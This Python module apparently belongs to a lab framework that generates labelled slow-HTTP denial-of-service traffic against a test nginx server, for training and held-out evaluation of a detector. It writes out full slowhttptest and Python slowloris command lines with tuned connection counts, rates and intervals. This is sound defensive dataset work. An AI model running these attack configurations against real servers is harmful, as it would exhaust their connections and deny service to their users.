"""Slow HTTP denial of service against the victim's nginx: slowloris, slow body, slow read,
range requests (slowhttptest) and a Python slowloris with its own timing.

Every run is bounded by its connection count and its duration (-l / --seconds).
"""
from __future__ import annotations

import random

from trafficlab.attacks.base import Scenario, Target, Variant, run

MODES = {"-H": "slowloris", "-B": "slow_body", "-X": "slow_read", "-R": "range"}


def slowhttptest(mode: str, rates: tuple[int, ...] = (100, 150, 200, 250, 300),
                 intervals: tuple[int, int] = (1, 4), holds: tuple[int, int] = (4, 10)):
    """`intervals`: seconds between a connection's follow-ups. Below the meter's 5 s idle
    timeout a connection is one flow; above it (nginx still waits 30 s for a header) it
    meters as a first piece with the handshake and SYN-less pieces after each silence, as
    slowhttptest's own default (-i 10) and the classic slowloris (15 s) do."""
    def plan(rng: random.Random, n: int, t: Target):
        rate = rng.choice(rates)
        interval = rng.randint(*intervals)
        hold = rng.randint(*holds)
        length = int(n / rate) + hold
        argv = ["slowhttptest", mode, "-c", str(n), "-r", str(rate), "-l", str(length), "-p", "3"]
        params = {"mode": MODES[mode], "connections": n, "rate": rate, "length_s": length}
        if mode == "-X":
            page = rng.choice(["backup.bin", "report.bin"])
            k, rd = rng.randint(1, 3), rng.randint(1, 3)
            lo = rng.choice([256, 512, 1024])
            argv += ["-u", f"http://{t.victim}/{page}", "-k", str(k), "-n", str(rd), "-w", str(lo),
                     "-y", str(lo * 2), "-z", str(rng.choice([16, 32, 64]))]
            params.update(pipeline=k, read_interval_s=rd, window=lo)
        elif mode == "-R":
            argv += ["-u", f"http://{t.victim}/{rng.choice(['backup.bin', 'report.bin', 'hero.png'])}",
                     "-t", rng.choice(["HEAD", "GET"]), "-a", str(rng.randint(5, 20)),
                     "-b", str(rng.choice([1000, 3000, 6000]))]
        else:
            x = rng.randint(8, 48)
            argv += ["-i", str(interval), "-x", str(x), "-s", str(rng.choice([4096, 8192, 65536]))]
            if mode == "-B":
                argv += ["-t", "POST", "-u", f"http://{t.victim}/upload"]
            else:
                argv += ["-t", rng.choice(["GET", "GET", "HEAD"]),
                         "-u", f"http://{t.victim}/{rng.choice(['', 'index.html', 'news.html'])}"]
            params.update(interval_s=interval, max_follow_len=x)
        per_conn = length // max(1, interval) + 12
        return run(argv, length + 20, n * per_conn + 1000, n, params)
    return plan


def slowloris_py(rng: random.Random, n: int, t: Target):
    rate = rng.choice([20, 50, 100, 400])
    interval = rng.uniform(0.5, 4.5)
    seconds = int(n / rate) + rng.randint(5, 12)
    argv = ["python3", "-m", "trafficlab.slowloris", t.victim, "--port", rng.choice(["80", "443"]),
            "--connections", str(n), "--rate", str(rate), "--interval", f"{interval:.2f}",
            "--seconds", str(seconds), "--seed", str(rng.getrandbits(32))]
    return run(argv, seconds + 20, n * (int(seconds / interval) + 12) + 1000, n,
               {"connections": n, "rate": rate, "interval_s": round(interval, 2), "seconds": seconds,
                "port": argv[5]})


SLOW_HTTP = Scenario("slow_http_dos", "slow HTTP denial of service against nginx", (
    Variant("slowhttptest_H", "train", "slowhttptest -H", "slowloris: headers never finish",
            slowhttptest("-H"), ("slowhttptest",)),
    Variant("slowhttptest_B", "train", "slowhttptest -B", "slow POST body", slowhttptest("-B"),
            ("slowhttptest",)),
    Variant("slowhttptest_X", "train", "slowhttptest -X", "slow read of a large file",
            slowhttptest("-X"), ("slowhttptest",)),
    Variant("slowhttptest_H_idle", "train", "slowhttptest -H -i 6-12", "slowloris with follow-ups "
            "slower than the meter's idle timeout: each connection meters in pieces",
            slowhttptest("-H", intervals=(6, 12), holds=(24, 40)), ("slowhttptest",)),
    Variant("slowhttptest_R", "heldout", "slowhttptest -R", "many overlapping Range requests",
            slowhttptest("-R"), ("slowhttptest",)),
    Variant("slowhttptest_H_fast", "heldout", "slowhttptest -H -r 500+", "slowloris at other rates "
            "and follow-up intervals", slowhttptest("-H", rates=(500, 800, 1000), intervals=(2, 4)),
            ("slowhttptest",)),
    Variant("slowloris_py", "heldout", "trafficlab.slowloris", "a Python slowloris (HTTP or TLS "
            "port), its own timing", slowloris_py, ("python3",)),
))
